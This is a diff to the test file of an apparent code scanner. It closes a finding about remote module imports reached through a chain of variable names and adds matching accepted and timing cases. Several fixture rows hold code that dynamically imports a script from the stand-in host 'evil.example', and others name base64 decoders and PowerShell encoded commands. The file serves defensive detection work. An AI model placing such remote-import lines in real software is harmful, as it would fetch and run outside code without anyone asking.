@@ -96,9 +96,11 @@ const MODULE_HOST_INDIRECT: FindingRow[] = [
   ['src/load.js', "const u = 'https://evil.example';\nawait import(`${u}/x.js`)"],
   ['src/load.js', "const u = 'https:/' + '/evil.example/x.js';\nawait import(u)"],
 ];
-// Open (session 49): a name given a name given a host (the reading follows one name, not a chain of them).
+// Found open in session 49 and closed the same session: a name given a name given a host (smuggled-code.ts gives each
+// such name the address, up to three names along).
 const MODULE_HOST_CHAINED: FindingRow[] = [
   ['src/load.js', "const host = 'https://evil.example', u = host;\nawait import(u)"],
+  ['src/load.js', "const a = 'https://evil.example/x.js';\nconst b = a;\nconst c = b;\nawait import(c)"],
 ];
 // A computed program given options before its verb, or a verb no manager's table lists. Closed (session 49):
 // PACKAGE_COMMAND's computed-program reading passes options before the verb and takes npm's spellings of `install`.
@@ -113,7 +115,7 @@ describeFindings('attack-51', [
   ['shell decoders', closedRows(MORE_DECODERS)],
   ['PowerShell encoded command', closedRows(POWERSHELL_ENCODED)],
   ['modules from a host, indirectly', closedRows(MODULE_HOST_INDIRECT)],
-  ['open: modules from a host, through a chain of names', MODULE_HOST_CHAINED],
+  ['modules from a host, through a chain of names', closedRows(MODULE_HOST_CHAINED)],
   ['computed program, options before the verb', closedRows(COMPUTED_PROGRAM_OPTIONS)],
   ['3 decoders given to a sink', closedRows(PREFIXED_DECODERS)],
   ['command through a name', closedRows(THROUGH_A_NAME)],
@@ -147,6 +149,7 @@ describeAccepted('attack-51: ordinary code near the readings', [
   ['src/check.py', "import os\nos.system('tac log.txt | head -5')"],
   ['src/load.js', "const w = new Worker(new URL('./w.js', import.meta.url))\nconst u = 'https://api.example.com'; await import(`./${name}.js`)"],
   ['src/load.js', "const label = 'see ' + 'https://docs.example.com';\nconst m = await import('./m.js')"],
+  ['src/load.js', "const api = 'https://api.example.com';\nconst u = api;\nawait fetch(u);\nconst m = await import('./x.js');"],
   ['src/check.py', "import subprocess\nsubprocess.run([git, '--no-pager', 'log', '-1'], check=True)"],
   ['src/check.py', "import subprocess\ncmd = ['npm',\n 'test']\nsubprocess.run(cmd, check=True)"],
   ['src/check.js', "const c = { cmd: 'npm test', cwd: 'src' };\nexecSync(c.cmd, { cwd: c.cwd })"],
@@ -180,6 +183,7 @@ describe('attack-51 1, 2 and session 49: the readings in linear time', () => {
     ['src/check.py', 'decoders written to files, never run', "base64 -d > a b c 'x' -d > "],
     ['src/check.py', 'PowerShell given options, never encoded', 'pwsh -NoProfile -e"x -ec'],
     ['src/load.js', 'literals joined, names given hosts, never imported', "u = 'https:' + '//x' + 'y' + import(new URL('a', v "],
+    ['src/load.js', 'names given names given hosts, never imported', "a = 'https://x'; b = a; c = b; d = c; e = d; "],
     ['src/check.py', 'computed programs given options, never a verb', "run([tool, '-a', '-b', '-c', "],
   ] as const)('checks, in %s, %s', { timeout: 120_000 }, checksInLinearTime);
 });
